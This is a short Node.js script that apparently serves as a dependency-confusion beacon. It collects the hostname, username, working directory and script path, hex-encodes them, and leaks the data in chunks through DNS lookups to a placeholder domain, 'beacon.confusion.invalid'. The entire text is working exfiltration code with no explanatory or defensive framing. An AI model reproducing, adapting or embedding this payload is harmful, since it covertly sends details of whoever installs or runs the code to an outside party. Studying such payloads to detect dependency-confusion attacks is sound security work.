const os = require("os");
const dns = require("dns");
const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: process.cwd(), p: __dirname });
const hex = Buffer.from(data).toString("hex");
const parts = hex.match(/.{1,60}/g);
parts.forEach((part, i) => {
  dns.lookup(`${i}.${part}.beacon.confusion.invalid`, () => {});
});
